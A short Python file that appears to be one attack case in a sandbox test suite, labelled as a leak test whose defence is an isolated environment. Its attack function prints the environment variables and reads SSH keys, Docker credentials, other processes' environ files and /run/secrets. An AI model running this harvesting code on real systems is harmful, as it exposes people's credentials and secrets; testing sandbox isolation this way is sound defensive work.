"""Prints every secret it can find: environment, key files, other processes, sockets.

ids: 55
effect: leak
defence: A box has an environment of its own, no home folder, no network and no socket.
"""

import glob
import os


def attack(world):
    print(dict(os.environ))
    homes = [os.path.expanduser("~"), *glob.glob("/home/*"), "/root"]
    names = [n for h in homes for n in (f"{h}/.docker/config.json", *glob.glob(f"{h}/.ssh/*"))]
    for name in names + glob.glob("/proc/[0-9]*/environ") + glob.glob("/run/secrets/*"):
        try:
            with open(name, errors="replace") as file:
                print(file.read())
        except OSError:
            continue
